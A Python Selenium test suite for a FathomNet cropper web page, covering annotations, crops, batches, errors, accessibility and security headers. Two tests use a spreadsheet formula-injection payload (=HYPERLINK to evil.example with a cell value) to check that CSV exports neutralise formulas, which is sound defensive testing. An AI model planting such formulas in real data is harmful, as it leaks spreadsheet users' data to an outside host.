"""The web page (cropper/static) in a real browser: headless Debian Chromium driven by Selenium, against
real nginx, Gunicorn and the FathomNet stand-in.

The page is checked against the API it uses: the annotations drawn are the stand-in's, the crop shown
is the one POST /cropper/ gives, a box drawn on a zoomed view has the image coordinates of the drag,
batches show the crops the batch endpoints make. Chromium's network log proves the original image is
never downloaded by the browser (tiles only). Each test leaves a screenshot in its tmp_path.

Needs Debian's chromium and chromium-driver, and axe-core from npm (AXE_CORE_JS, by default
var/npm/node_modules/axe-core/axe.min.js): without them the tests are skipped, except in CI.
"""

import csv
import io
import json
import os
import shutil
import tempfile
import time
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest
import requests
from selenium import webdriver
from selenium.common.exceptions import TimeoutException
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.common.action_chains import ActionChains
from selenium.webdriver.common.actions.action_builder import ActionBuilder
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys
from selenium.webdriver.support.ui import Select, WebDriverWait

from cropper.http.crops import CSV_COLUMNS
from cropper.pages import docs_policy, page_policy
from cropper.spreadsheets import csv_text
from devtools.servers import Gunicorn, NginxServer, find_nginx_or_skip, forget_image, service_env
from devtools.standin import (
    DATASET_CONCEPTS,
    DATASET_GENUS,
    EDGE_BOXES,
    MULTIPAGE_CONCEPT,
    box,
    boxes,
    find_boxes,
    uuid_for,
)
from tests.jobs import finished_job, job_answer

ROOT = Path(__file__).resolve().parents[2]
CHROMIUM = os.environ.get("CHROMIUM", "/usr/bin/chromium")
CHROMEDRIVER = os.environ.get("CHROMEDRIVER", "/usr/bin/chromedriver")
AXE = Path(os.environ.get("AXE_CORE_JS", ROOT / "var" / "npm" / "node_modules" / "axe-core" / "axe.min.js"))
UNKNOWN = "00000000-0000-4000-8000-000000000000"
DESKTOP, PHONE = (1280, 800, False), (390, 844, True)
# Patient with FathomNet (read by the module's gunicorn fixture): an image the stand-in holds keeps a data-set
# job running for as long as a test looks at it, where the usual 1 s read timeout would fail its box at once.
SERVICE_SETTINGS = {"READ_TIMEOUT": "30", "DOWNLOAD_TIMEOUT": "60", "API_TIMEOUT": "30"}


def missing_or_skip(what, hint):
    """CI must have the browser tools (.ci/setup installs them); elsewhere their tests are skipped, loudly."""
    if os.environ.get("CI"):
        pytest.fail(f"{what} is missing in CI: {hint}")
    pytest.skip(f"{what} is missing ({hint})")


@pytest.fixture(scope="module")
def browser(nginx):
    for path in (CHROMIUM, CHROMEDRIVER):
        if not shutil.which(path):
            missing_or_skip(path, "apt-get install -y chromium chromium-driver")
    profile = tempfile.mkdtemp(prefix="cropper-chromium-")
    options = webdriver.ChromeOptions()
    options.binary_location = CHROMIUM
    for arg in ("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--disable-quic",
                "--disable-background-networking", "--disable-component-update", "--disable-sync",
                "--no-first-run", f"--user-data-dir={profile}"):
        options.add_argument(arg)
    # The network log: every request the page makes, read (and emptied) by requested().
    options.set_capability("goog:loggingPrefs", {"performance": "ALL", "browser": "ALL"})
    # An explicit driver: without it Selenium Manager would try to download one.
    driver = webdriver.Chrome(options=options, service=Service(CHROMEDRIVER))
    try:
        yield driver
    finally:
        driver.quit()
        shutil.rmtree(profile, ignore_errors=True)


@pytest.fixture
def page(browser, nginx, tmp_path):
    yield from fresh_page(browser, nginx, tmp_path)


def fresh_page(browser, nginx, tmp_path, tolerated=()):
    """The browser at 1280x800 on a blank page, its logs emptied; a screenshot of the end state is kept.

    The service's error answers are logged as failed loads; any other console error is the page's own
    mistake, but for those from a script named in tolerated.
    """
    browser.get("about:blank")
    size(browser, DESKTOP)
    browser.get_log("performance")
    browser.get_log("browser")
    yield Page(browser, nginx.url)
    browser.save_screenshot(str(tmp_path / "page.png"))
    mistakes = [e["message"] for e in browser.get_log("browser") if e["level"] == "SEVERE"
                and not any(text in e["message"] for text in ("Failed to load resource", *tolerated))]
    assert mistakes == []


def size(driver, viewport):
    width, height, mobile = viewport
    driver.execute_cdp_cmd("Emulation.setDeviceMetricsOverride",
                           {"width": width, "height": height, "deviceScaleFactor": 1, "mobile": mobile})


class Page:
    def __init__(self, driver, base):
        self.driver, self.base = driver, base

    def open(self, query="", base=None):
        self.driver.get(f"{base or self.base}/{query}")

    def wait(self, condition, timeout=20, message=""):
        try:
            return WebDriverWait(self.driver, timeout, poll_frequency=0.05).until(lambda d: condition())
        except TimeoutException:
            raise AssertionError(f"timed out waiting for {message or condition}") from None

    def js(self, script, *args):
        return self.driver.execute_script(script, *args)

    def el(self, css):
        return self.driver.find_element(By.CSS_SELECTOR, css)

    def all(self, css):
        return self.driver.find_elements(By.CSS_SELECTOR, css)

    def value(self, css):
        return self.el(css).get_attribute("value")

    def annotations(self):
        return self.all(".annotation")

    def annotation(self, box_uuid):
        return self.el(f'.annotation[data-box="{box_uuid}"]')

    def wait_for_image(self, count):
        """Until the page shows `count` annotations and every tile in view is drawn."""
        self.wait(lambda: len(self.annotations()) == count, message=f"{count} annotations")
        self.wait(lambda: self.js("const i = window.cropperPage.viewer.world.getItemAt(0);"
                                  "return Boolean(i && i.getFullyLoaded())"), message="the tiles")

    def wait_for_result(self, previous=""):
        self.wait(lambda: self.value("#result-url") not in ("", previous) and "bytes" in self.el("#result-size").text,
                  message="a crop")
        return self.value("#result-url")

    def error(self, css):
        self.wait(lambda: self.el(css).is_displayed(), message=f"an error in {css}")
        return self.el(css).text

    def requested(self):
        """URLs the browser asked for since the last call (reading the log empties it)."""
        urls = []
        for entry in self.driver.get_log("performance"):
            message = json.loads(entry["message"])["message"]
            if message["method"] == "Network.requestWillBeSent":
                urls.append(message["params"]["request"]["url"])
        return urls

    def to_image(self, x, y):
        """Image coordinates of a point of the window, by OpenSeadragon's own viewport arithmetic."""
        return self.js("""const v = window.cropperPage.viewer, r = v.element.getBoundingClientRect();
            const p = v.viewport.viewerElementToImageCoordinates(new OpenSeadragon.Point(arguments[0] - r.left,
                                                                                         arguments[1] - r.top));
            return [p.x, p.y];""", x, y)

    def type_into(self, css, text):
        field = self.el(css)
        field.clear()
        field.send_keys(text)


def post(nginx, path, body, **kwargs):
    answer = requests.post(f"{nginx.url}{path}", json=body, timeout=60, **kwargs)
    assert answer.status_code == 200, answer.text
    return answer


def full_size(url, width, height):
    """Whether an IIIF image URL asks for the whole image at its full size."""
    parts = urlsplit(url).path.split("/")  # "", iiif, 3, uuid, region, size, rotation, quality.format
    if len(parts) != 8 or parts[1:3] != ["iiif", "3"]:
        return False
    region, wanted = parts[4], parts[5].lstrip("^")
    if region not in ("full", "square", f"0,0,{width},{height}", "pct:0,0,100,100"):
        return False
    if wanted in ("max", "full", "pct:100"):
        return True
    w, _, h = wanted.lstrip("!").partition(",")
    return (w and int(w) >= width) or (h and int(h) >= height)


def test_an_image_opens_with_its_annotations_drawn_from_tiles_only(page, standin, nginx):
    name = "framegrab-0"
    image = standin.image(name)
    expected = standin.image_json(name)["boundingBoxes"]
    page.open()
    page.type_into("#open-input", f"https://fathomnet.org/images/{image.uuid}")  # a URL with a uuid in it
    page.el("#open-input").send_keys(Keys.ENTER)
    page.wait_for_image(len(expected))
    assert {a.get_attribute("data-box") for a in page.annotations()} == {b["uuid"] for b in expected}
    labels = sorted(a.find_element(By.CSS_SELECTOR, ".label").text for a in page.annotations())
    assert labels == sorted(b["concept"] for b in expected)
    assert len(page.all("#box-list li")) == len(expected)
    assert f"image={image.uuid}" in page.driver.current_url
    # The list filters the boxes, on the image too.
    Select(page.el("#concept-filter")).select_by_value(MULTIPAGE_CONCEPT)
    shown = [b for b in expected if b["concept"] == MULTIPAGE_CONCEPT]
    assert len([a for a in page.annotations() if a.is_displayed()]) == len(shown) < len(expected)
    assert len([li for li in page.all("#box-list li") if li.is_displayed()]) == len(shown)
    # Hover or keyboard focus shows an annotation's details.
    first = page.annotations()[-1]
    page.js("arguments[0].focus()", first)
    details = first.find_element(By.CSS_SELECTOR, ".details")
    assert details.is_displayed() and "px" in details.text
    urls = page.requested()
    tiles = [u for u in urls if "/iiif/3/" in u and not u.endswith("info.json")]
    assert tiles, urls
    assert not [u for u in urls if u.startswith(standin.base_url) or quote(image.path) in u]  # never the original
    assert not [u for u in tiles if full_size(u, image.width, image.height)]


def test_every_label_is_inside_the_viewer_even_for_a_box_at_the_top_edge(page, standin, nginx):
    name = "framegrab-1"  # its "top" box starts at y = 0: a label above it would be cut off
    page.open(f"?image={uuid_for(name)}")
    page.wait_for_image(len(boxes(name)))
    viewer = page.js("return window.cropperPage.viewer.element.getBoundingClientRect().toJSON()")
    for box_uuid in (EDGE_BOXES["top"], *[b["uuid"] for b in boxes(name) if b["y"] > 100]):
        label = page.js("return arguments[0].querySelector('.label').getBoundingClientRect().toJSON()",
                        page.annotation(box_uuid))
        assert viewer["top"] <= label["top"] and label["bottom"] <= viewer["bottom"], (box_uuid, label, viewer)


def test_clicking_an_annotation_shows_the_crop_cropper_gives_for_its_box(page, standin, nginx):
    name, box_uuid = "framegrab-2", EDGE_BOXES["right"]
    page.open(f"?image={uuid_for(name)}")
    page.wait_for_image(len(boxes(name)))
    ActionChains(page.driver).move_to_element(page.annotation(box_uuid)).click().perform()
    shown = page.wait_for_result()
    answer = post(nginx, "/cropper/", {"box_uuid": box_uuid}).json()
    assert shown == answer["url"]
    size_text = page.el("#result-size").text
    assert f"{answer['width']} × {answer['height']} px" in size_text
    assert f"({len(requests.get(answer['url'], timeout=30).content):,} bytes)" in size_text
    assert f"box={box_uuid}" in page.driver.current_url
    assert box_uuid in page.el("#curl-line").text and box_uuid in page.el("#python-line").text
    assert [page.value(f"#{k}") for k in ("x1", "y1", "x2", "y2")] == [str(v) for v in answer["region"]]
    page.el("#copy-url").click()
    page.wait(lambda: page.el("#copy-status").text, message="the copy button's answer")
    # With the keyboard: another annotation, focused and chosen with Enter.
    other = next(b["uuid"] for b in boxes(name) if b["uuid"] != box_uuid)
    page.js("arguments[0].focus()", page.annotation(other))
    page.driver.switch_to.active_element.send_keys(Keys.ENTER)
    assert page.wait_for_result(shown) == post(nginx, "/cropper/", {"box_uuid": other}).json()["url"]


def test_a_box_drawn_on_a_zoomed_view_has_the_image_coordinates_of_the_drag(page, standin, nginx):
    name = "framegrab-1"
    page.open(f"?image={uuid_for(name)}")
    page.wait_for_image(len(boxes(name)))
    page.js("""const v = window.cropperPage.viewer;
        v.viewport.zoomTo(3, null, true);
        v.viewport.panTo(v.viewport.imageToViewportCoordinates(new OpenSeadragon.Point(1300, 700)), true);""")
    page.el("#draw-toggle").click()
    assert page.el("#draw-toggle").get_attribute("aria-pressed") == "true"
    rect = page.js("return document.getElementById('viewer').getBoundingClientRect().toJSON()")
    start = (int(rect["left"] + 150), int(rect["top"] + 90))
    end = (int(rect["left"] + 530), int(rect["top"] + 330))
    # Viewport coordinates: element-relative moves land wrong when the element is partly off-screen.
    actions = ActionBuilder(page.driver)
    actions.pointer_action.move_to_location(*start).pointer_down()
    actions.pointer_action.move_to_location(start[0] + 90, start[1] + 40).move_to_location(*end).pointer_up()
    actions.perform()
    (x1, y1), (x2, y2) = page.to_image(*start), page.to_image(*end)
    assert 100 < x2 - x1 < 380  # zoomed in: 380 screen pixels are about 290 image pixels (870 at home)
    typed = [int(page.value(f"#{k}")) for k in ("x1", "y1", "x2", "y2")]
    assert all(abs(a - b) <= 2 for a, b in zip(typed, (x1, y1, x2, y2))), (typed, (x1, y1, x2, y2))
    assert "x1=" in page.driver.current_url and "box=" not in page.driver.current_url
    # Its lower right corner, moved by its handle (in draw mode too).
    handle = page.el('.handle[data-corner="se"]').rect
    moved = (int(handle["x"] + handle["width"] / 2) + 60, int(handle["y"] + handle["height"] / 2) + 45)
    actions = ActionBuilder(page.driver)
    actions.pointer_action.move_to_location(int(handle["x"] + 7), int(handle["y"] + 7)).pointer_down()
    actions.pointer_action.move_to_location(*moved).pointer_up()
    actions.perform()
    x2, y2 = page.to_image(*moved)
    typed = [int(page.value(f"#{k}")) for k in ("x1", "y1", "x2", "y2")]
    assert all(abs(a - b) <= 2 for a, b in zip(typed, (x1, y1, x2, y2))), (typed, (x1, y1, x2, y2))
    page.el("#crop-button-top").click()  # the toolbar's, beside the drawing
    shown = page.wait_for_result()
    body = {"uuid": uuid_for(name), **dict(zip(("x1", "y1", "x2", "y2"), typed))}
    assert shown == post(nginx, "/cropper/", body).json()["url"]
    assert f"{typed[2] - typed[0]} × {typed[3] - typed[1]} px" in page.el("#result-size").text


def test_a_batch_of_checked_boxes_and_a_concept_batch_show_their_crops_and_csv(page, standin, nginx, tmp_path):
    name = "framegrab-0"
    concept_here = [b["uuid"] for b in boxes(name) if b["concept"] == MULTIPAGE_CONCEPT]
    page.driver.execute_cdp_cmd("Browser.setDownloadBehavior", {"behavior": "allow", "downloadPath": str(tmp_path)})
    page.open(f"?image={uuid_for(name)}&concept={quote(MULTIPAGE_CONCEPT)}&format=png")
    page.wait_for_image(len(boxes(name)))
    page.el("#check-shown").click()
    assert page.el("#crop-checked").text == f"Crop checked ({len(concept_here)})"
    page.el("#crop-checked").click()
    page.wait(lambda: len(page.all("#batch-grid li")) == len(concept_here), message="the batch grid")
    answers = post(nginx, "/cropper-list/", {"crops": [{"box_uuid": u} for u in concept_here], "format": "png"}).json()
    assert [a.get_attribute("href") for a in page.all("#batch-grid .crop-url")] == [a["url"] for a in answers]
    # Every box of the concept in FathomNet, a page at a time.
    assert page.value("#concept-name") == MULTIPAGE_CONCEPT
    page.type_into("#concept-limit", "10")
    page.el("#concept-form button").click()
    page.wait(lambda: "of 32" in page.el("#batch-summary").text, message="the concept batch")
    body = {"concept": MULTIPAGE_CONCEPT, "limit": 10, "format": "png"}
    concept = post(nginx, "/cropper-concept/", body).json()
    assert [a.get_attribute("href") for a in page.all("#batch-grid .crop-url")] == [c["url"] for c in concept["crops"]]
    page.el("#download-csv").click()
    csv_file = tmp_path / f"crops-{MULTIPAGE_CONCEPT.replace(' ', '-')}.csv"
    page.wait(csv_file.exists, message="the CSV download")
    as_csv = post(nginx, "/cropper-concept/", body, headers={"Accept": "text/csv"}).text
    assert csv_file.read_text() == as_csv
    page.el("#next-page").click()
    page.wait(lambda: "Boxes 11–20" in page.el("#batch-summary").text, message="the next page")


def test_a_shared_link_opens_the_same_view(page, standin, nginx):
    name, box_uuid = "framegrab-3", EDGE_BOXES["bottom"]
    page.open(f"?image={uuid_for(name)}")
    page.wait_for_image(len(boxes(name)))
    Select(page.el("#format")).select_by_value("jpeg")
    page.type_into("#pad", "10")
    Select(page.el("#pad-unit")).select_by_value("%")
    page.el("#square").click()
    Select(page.el("#concept-filter")).select_by_value(MULTIPAGE_CONCEPT)
    page.el(f'#box-list li[data-box="{box_uuid}"] .box-item').click()
    shown = page.wait_for_result()
    link = page.driver.current_url
    fields = {k: page.value(f"#{k}") for k in ("x1", "y1", "x2", "y2", "format", "pad", "pad-unit", "concept-filter")}
    page.driver.get("about:blank")
    page.driver.get(link)
    page.wait_for_image(len(boxes(name)))
    assert page.wait_for_result() == shown
    assert {k: page.value(f"#{k}") for k in fields} == fields
    assert page.el("#square").is_selected()
    assert "selected" in page.annotation(box_uuid).get_attribute("class")
    answer = post(nginx, "/cropper/", {"box_uuid": box_uuid, "format": "jpeg", "pad": "10%", "square": True}).json()
    assert shown == answer["url"]


def test_a_box_uuid_opens_its_image_with_the_box_chosen_and_cropped(page, standin, nginx):
    box_uuid = EDGE_BOXES["top"]
    name = next(n for n in ("framegrab-0", "framegrab-1") if box_uuid in {b["uuid"] for b in boxes(n)})
    page.open()
    page.type_into("#open-input", box_uuid + "\n")
    page.wait_for_image(len(boxes(name)))
    assert page.wait_for_result() == post(nginx, "/cropper/", {"box_uuid": box_uuid}).json()["url"]
    assert page.value("#open-input") == uuid_for(name)
    assert f"image={uuid_for(name)}&box={box_uuid}" in page.driver.current_url
    assert "selected" in page.annotation(box_uuid).get_attribute("class")


def test_unknown_uuids_and_plain_urls_are_told_next_to_the_open_field(page):
    page.open()
    page.type_into("#open-input", UNKNOWN + "\n")
    text = page.error("#open-error")
    assert "Not found (404 image_not_found, box_not_found)" in text  # tried as an image, then as a box
    assert f"no image with uuid {UNKNOWN}" in text and f"no bounding box with uuid {UNKNOWN}" in text
    page.type_into("#open-input", "https://database.fathomnet.org/static/m3/framegrabs/Doc%20Ricketts/a.png\n")
    page.wait(lambda: "no UUID" in page.el("#open-error").text, message="the plain URL's message")


def test_a_box_outside_the_image_is_the_services_422_next_to_the_crop_button(page, standin):
    name = "framegrab-4"
    page.open(f"?image={uuid_for(name)}")
    page.wait_for_image(len(boxes(name)))
    for field, value in zip(("x1", "y1", "x2", "y2"), (1800, 100, 2000, 200)):
        page.type_into(f"#{field}", str(value))
    page.el("#crop-button").click()
    text = page.error("#crop-error")
    assert "422 box_outside_image" in text and "does not fit inside the 1920x1080 image" in text
    assert page.el("#x2").get_attribute("aria-invalid") == "true"


def test_fathomnet_down_is_a_502_told_next_to_the_open_field(page, standin):
    uuid = uuid_for("palette")  # opened by no other test here, so the service must ask FathomNet
    standin.set_fault("500", target="api", uuid=uuid)
    page.open(f"?image={uuid}")
    text = page.error("#open-error")
    assert "FathomNet is not answering properly (502 upstream_error)" in text and "try again later" in text
    assert page.el("h1").is_displayed()  # the page itself stays


def test_a_rate_limit_is_a_429_with_its_wait(page, standin, gunicorn, tmp_path):
    find_nginx_or_skip()
    name, box_uuid = "framegrab-5", EDGE_BOXES["bottom-right"]
    with NginxServer(gunicorn, gunicorn.cache_dir, tmp_path, api_rate="1r/m", api_burst=1) as limited:
        page.driver.get(f"{limited.url}/?image={uuid_for(name)}&box={box_uuid}")  # two API requests: boxes, crop
        page.wait_for_result()
        page.el("#crop-button").click()
        text = page.error("#crop-error")
    assert "Too many requests (429 too_many_requests)" in text and "Wait 1 s" in text


@pytest.mark.parametrize("viewport", [DESKTOP, PHONE], ids=["1280x800", "390x844"])
def test_axe_finds_no_serious_or_critical_violations(page, standin, nginx, viewport):
    if not AXE.exists():
        missing_or_skip(str(AXE), "npm install --prefix var/npm axe-core@4.14.1, or set AXE_CORE_JS")
    size(page.driver, viewport)
    name = "framegrab-6"
    job_id = start_job(nginx, concepts=[DATASET_GENUS], crop={"width": 40, "height": 40})  # both sizes: one job
    assert finished_job(nginx.url, job_id, seconds=90)["status"] == "done"
    page.open(f"?image={uuid_for(name)}&box={EDGE_BOXES['full-frame']}&dataset={job_id}")
    page.wait_for_image(len(boxes(name)))
    page.wait_for_result()
    page.wait(lambda: page.el("#ds-result").is_displayed(), message="the finished data set")
    page.el("#check-shown").click()
    page.el("#crop-checked").click()
    page.wait(lambda: page.all("#batch-grid li"), message="the batch grid")
    page.type_into("#x2", "5000")  # an error on show too
    page.el("#crop-button").click()
    page.error("#crop-error")
    page.type_into("#ds-concept", "atolla\n")  # and the data-set panel's, with its suggestions
    page.el("#ds-start-button").click()
    page.wait(lambda: page.all("#ds-concepts-error .suggestions button"), message="the suggestions")
    page.js(AXE.read_text())
    page.driver.set_script_timeout(60)
    violations = page.driver.execute_async_script(
        "const done = arguments[arguments.length - 1];"
        "axe.run(document, {resultTypes: ['violations']}).then((r) => done(r.violations), (e) => done(String(e)));")
    assert isinstance(violations, list), violations
    serious = [(v["id"], v["impact"], [n["target"] for n in v["nodes"]][:5]) for v in violations
               if v["impact"] in ("serious", "critical")]
    assert serious == [], serious
    width = page.js("return document.documentElement.scrollWidth")
    assert width <= viewport[0], f"the page is {width} px wide at {viewport[0]}"  # no sideways scrolling


def test_the_page_loads_nothing_from_the_internet(page, nginx):
    page.open(f"?image={uuid_for('framegrab-7')}")
    page.wait_for_image(len(boxes("framegrab-7")))
    time.sleep(0.2)
    hosts = {urlsplit(u).netloc for u in page.requested() if u.startswith("http")}
    assert hosts == {urlsplit(nginx.url).netloc}, hosts


def delay_requests(page, fragment, seconds, method=None):
    """The page's fetch() of URLs containing `fragment` answered `seconds` late: a slow network, in the page."""
    page.js("""const [fragment, ms, method] = arguments, real = window.fetch;
        window.fetch = (url, init) => String(url).includes(fragment) && (!method || (init && init.method) === method)
            ? new Promise((done) => setTimeout(done, ms)).then(() => real(url, init)) : real(url, init);""",
            fragment, int(seconds * 1000), method)


def test_back_to_the_address_without_an_image_closes_it(page, standin):
    first, second = "framegrab-0", "framegrab-1"
    page.open()
    page.type_into("#open-input", uuid_for(first) + "\n")
    page.wait_for_image(len(boxes(first)))
    page.type_into("#open-input", uuid_for(second) + "\n")
    page.wait_for_image(len(boxes(second)))
    page.driver.back()
    page.wait(lambda: page.value("#open-input") == uuid_for(first), message="the first image again")
    page.wait_for_image(len(boxes(first)))
    page.driver.back()
    page.wait(lambda: "image=" not in page.driver.current_url, message="the first address")
    page.wait(lambda: not page.annotations(), message="no image open")
    assert page.el("#boxes-empty").text == "No image open." and page.value("#open-input") == ""
    assert not page.all("#box-list li")


def test_a_slow_crop_of_the_first_image_is_not_shown_on_the_second(page, standin):
    first, second = "framegrab-2", "framegrab-3"
    page.open(f"?image={uuid_for(first)}")
    page.wait_for_image(len(boxes(first)))
    delay_requests(page, "/cropper/", 3, "POST")
    page.el("#box-list li .box-item").click()  # its crop is on its way...
    page.type_into("#open-input", uuid_for(second) + "\n")  # ...when the next image is opened
    page.wait_for_image(len(boxes(second)))
    time.sleep(3.5)
    assert not page.el("#result").is_displayed() and page.el("#result-empty").is_displayed()
    assert page.value("#x1") == "" and "box=" not in page.driver.current_url


def test_a_slow_lookup_of_a_first_uuid_does_not_replace_the_image_opened_after_it(page, standin):
    box_uuid, second = EDGE_BOXES["top"], "framegrab-4"
    page.open()
    delay_requests(page, f"/images/{box_uuid}/boxes", 2)
    page.type_into("#open-input", box_uuid + "\n")  # not an image: then tried as a box
    page.type_into("#open-input", uuid_for(second) + "\n")
    page.wait_for_image(len(boxes(second)))
    time.sleep(4)
    assert page.value("#open-input") == uuid_for(second) and f"image={uuid_for(second)}" in page.driver.current_url
    assert len(page.annotations()) == len(boxes(second)) and not page.el("#open-error").is_displayed()
    assert not page.el("#result").is_displayed()


def test_next_page_goes_on_with_the_concept_of_the_batch_shown(page, standin):
    name = "framegrab-0"
    other = next(b["concept"] for b in boxes(name) if b["concept"] != MULTIPAGE_CONCEPT)
    page.open(f"?image={uuid_for(name)}&concept={quote(MULTIPAGE_CONCEPT)}")
    page.wait_for_image(len(boxes(name)))
    page.type_into("#concept-limit", "10")
    page.el("#concept-form button").click()
    page.wait(lambda: "of 32" in page.el("#batch-summary").text, message="the concept batch")
    Select(page.el("#concept-filter")).select_by_value(other)  # fills in the concept field: not a new batch yet
    page.type_into("#concept-limit", "3")
    page.el("#next-page").click()
    page.wait(lambda: "Boxes 11–20" in page.el("#batch-summary").text, message="the next page")
    assert f"of 32 {MULTIPAGE_CONCEPT} boxes" in page.el("#batch-summary").text


def test_a_concept_limit_out_of_range_marks_the_limit_field(page, standin):
    page.open()
    page.type_into("#concept-name", MULTIPAGE_CONCEPT)
    for limit, words in (("0", "limit: Must be 1 or more."), ("101", "limit: A page is at most 100 boxes.")):
        page.type_into("#concept-limit", limit)
        page.el("#concept-form button").click()
        page.wait(lambda: words in page.el("#concept-error").text, message=f"the error for {limit}")  # noqa: B023
        assert page.el("#concept-limit").get_attribute("aria-invalid") == "true"


def test_the_format_menu_holds_what_the_service_describes_with_its_default_chosen(page, nginx):
    """The page keeps no copy of the format table: it reads the service's description."""
    described = requests.get(f"{nginx.url}/openapi.json", timeout=10).json()["components"]["schemas"]
    page.open()
    page.wait(lambda: len(page.all("#format option")) > 0, message="the format menu")
    assert [option.get_attribute("value") for option in page.all("#format option")] == \
        described["CropAnswer"]["properties"]["format"]["enum"]
    assert page.value("#format") == described["CropRequest"]["properties"]["format"]["default"] == "webp"


HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Open crop")'


def test_download_csv_hands_a_spreadsheet_no_formula(page, standin, nginx, tmp_path):
    """A concept a hostile FathomNet names as a formula: the page's CSV, like the service's, writes it as text."""
    standin.add_box("framegrab-1", HYPERLINK, 10, 12, 40, 30)
    page.driver.execute_cdp_cmd("Browser.setDownloadBehavior", {"behavior": "allow", "downloadPath": str(tmp_path)})
    page.open()
    page.type_into("#concept-name", HYPERLINK)
    page.el("#concept-form button").click()
    page.wait(lambda: len(page.all("#batch-grid li")) == 1, message="the concept batch")
    page.el("#download-csv").click()
    page.wait(lambda: list(tmp_path.glob("crops-*.csv")), message="the CSV download")
    downloaded = next(tmp_path.glob("crops-*.csv")).read_text()
    assert [row[1] for row in csv.reader(io.StringIO(downloaded, newline=""))] == ["label", "'" + HYPERLINK]
    as_csv = post(nginx, "/cropper-concept/", {"concept": HYPERLINK, "limit": 20}, headers={"Accept": "text/csv"})
    assert downloaded == as_csv.text


def test_the_pages_csv_writes_every_cell_as_the_service_does(page):
    """api.js's toCsv and cropper/spreadsheets.py, cell for cell: formulas, signs, quotes, commas, CR and LF."""
    labels = [HYPERLINK, "+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "Aegina\r=1", 'say "hi", then\nbye', "Aegina",
              " =1", "-12"]
    answers = [{"url": f"http://crops.test/crops/{i}.webp", "concept": label, "box_uuid": f"b{i}", "uuid": "u",
                "region": [-12, 0, 5, 7]} for i, label in enumerate(labels)]
    page.open()
    in_browser = page.driver.execute_async_script(
        "const [answers, done] = arguments;"
        "import('/static/js/api.js').then((api) => done(api.toCsv(answers)));", answers)
    rows = [[a["url"], a["concept"], a["box_uuid"], a["uuid"], *a["region"]] for a in answers]
    assert in_browser == csv_text(CSV_COLUMNS, rows)
    assert "\n'=HYPERLINK" not in in_browser and ",-12,0,5,7\n" in in_browser


def test_each_page_is_sent_its_policy_by_nginx_and_by_gunicorn_alone(nginx, gunicorn):
    for base in (nginx.url, gunicorn.url):
        for path, policy in (("/", page_policy()), ("/static/js/page.js", page_policy()), ("/docs", docs_policy())):
            answer = requests.get(f"{base}{path}", timeout=10)
            assert answer.status_code == 200 and answer.headers["Content-Security-Policy"] == policy, (base, path)
            assert answer.headers["X-Content-Type-Options"] == "nosniff"


def test_the_api_reference_renders_under_its_policy(page, nginx):
    """Redoc styles itself inline and searches in a worker: its policy lets it, and it shows the description."""
    page.driver.get(f"{nginx.url}/docs")
    page.wait(lambda: "FathomNet Cropper" in page.driver.find_element(By.TAG_NAME, "body").text, message="Redoc")
    page.wait(lambda: page.all("[data-section-id]"), message="the operations")
    refused = [e["message"] for e in page.driver.get_log("browser") if "Content Security Policy" in e["message"]]
    assert all("'https://cdn.redoc.ly/" in message for message in refused), refused  # only its footer's logo


def test_no_other_site_can_frame_the_page(page, nginx, tiny):
    """frame-ancestors 'none': a page elsewhere (another origin) that frames the service's gets Chromium's
    refusal instead."""
    tiny.routes["/"] = (200, {"Content-Type": "text/html"}, f"<iframe src='{nginx.url}/'></iframe>".encode())
    page.driver.get(f"{tiny.url}/")
    page.driver.switch_to.frame(page.el("iframe"))
    try:
        # Loaded, the frame is Chromium's error page ("refused to connect") instead of the service's.
        page.wait(lambda: page.js("return document.readyState") == "complete" and page.js(
            "return location.href") != "about:blank", message="the frame")
        assert page.js("return location.href").startswith("chrome-error://")
        assert page.all("#open-input") == []
    finally:
        page.driver.switch_to.default_content()
    assert any("frame-ancestors 'none'" in e["message"] for e in page.driver.get_log("browser"))  # and says why


# ---------------------------------------------------------------- rough edges a new user met --


def drag(page, start, end):
    """A mouse drag between two points of the window (viewport coordinates), through a point on the way."""
    actions = ActionBuilder(page.driver)
    actions.pointer_action.move_to_location(*start).pointer_down()
    actions.pointer_action.move_to_location((start[0] + end[0]) // 2, (start[1] + end[1]) // 2)
    actions.pointer_action.move_to_location(*end).pointer_up()
    actions.perform()


def viewer_rect(page):
    return page.js("return document.getElementById('viewer').getBoundingClientRect().toJSON()")


def test_another_image_opens_in_panning_mode_after_drawing(page, standin):
    first, second = "framegrab-0", "framegrab-1"
    page.open(f"?image={uuid_for(first)}")
    page.wait_for_image(len(boxes(first)))
    page.el("#draw-toggle").click()
    assert page.el("#draw-toggle").text == "Drawing: on"
    page.type_into("#open-input", uuid_for(second) + "\n")
    page.wait_for_image(len(boxes(second)))
    toggle = page.el("#draw-toggle")
    assert (toggle.text, toggle.get_attribute("aria-pressed")) == ("Draw a box", "false")
    assert page.el("#viewer-hint").text.startswith("Drag to pan")
    # And a drag does what the hint says: it pans, and draws nothing.
    centre = "const c = window.cropperPage.viewer.viewport.getCenter(true); return [c.x, c.y];"
    before = page.js(centre)
    rect = viewer_rect(page)
    drag(page, (int(rect["left"] + 60), int(rect["bottom"] - 20)), (int(rect["left"] + 260), int(rect["bottom"] - 120)))
    page.wait(lambda: page.js(centre) != before, message="the view to pan")
    assert page.value("#x1") == "" and not page.el("#selection").is_displayed()


def test_a_changed_box_clears_the_crop_of_the_box_before(page, standin, nginx):
    name = "framegrab-4"
    page.open(f"?image={uuid_for(name)}")
    page.wait_for_image(len(boxes(name)))
    page.el("#box-list li .box-item").click()
    shown = page.wait_for_result()
    page.el("#draw-toggle").click()
    rect = viewer_rect(page)
    drag(page, (int(rect["left"] + 100), int(rect["top"] + 80)), (int(rect["left"] + 260), int(rect["top"] + 200)))
    page.wait(lambda: page.value("#x1") != "", message="the box drawn")
    assert not page.el("#result").is_displayed()  # not the crop of the annotation beside the box drawn
    assert page.el("#result-empty").text == "This box is not cropped yet: press Crop."
    page.el("#crop-button-top").click()
    drawn = page.wait_for_result(shown)
    typed = {k: int(page.value(f"#{k}")) for k in ("x1", "y1", "x2", "y2")}
    assert drawn == post(nginx, "/cropper/", {"uuid": uuid_for(name), **typed}).json()["url"]
    page.type_into("#x1", str(typed["x1"] + 5))  # typed coordinates are a changed box too
    assert not page.el("#result").is_displayed() and page.el("#result-empty").is_displayed()


